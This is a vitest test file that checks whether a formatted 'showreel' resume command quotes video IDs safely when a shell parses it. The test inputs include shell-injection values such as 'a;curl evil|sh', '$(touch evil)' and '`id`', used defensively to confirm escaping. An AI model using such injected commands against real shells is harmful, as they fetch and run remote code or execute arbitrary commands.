import { execFileSync } from "node:child_process";
import { expect, test } from "vitest";
import { formatResumeHint } from "../../src/jobs/resume-hint.ts";

test.each(["v_1", "a;curl evil|sh", "$(touch evil)", "it's", "`id`", "-x", "a b"])(
  "the command to resume %j is one that a shell can be given",
  (id) => {
    const words =
      formatResumeHint({ provider: "heygen", surface: "video", ids: { video_id: id } }, true) ?? "";
    const [, rest = ""] = words.split(": showreel ");
    const argv = execFileSync("/bin/sh", ["-c", `printf '%s\\n' ${rest}`], { encoding: "utf8" })
      .trimEnd()
      .split("\n");
    expect(argv).toEqual(["--provider", "heygen", "--video-id", id]);
  },
);
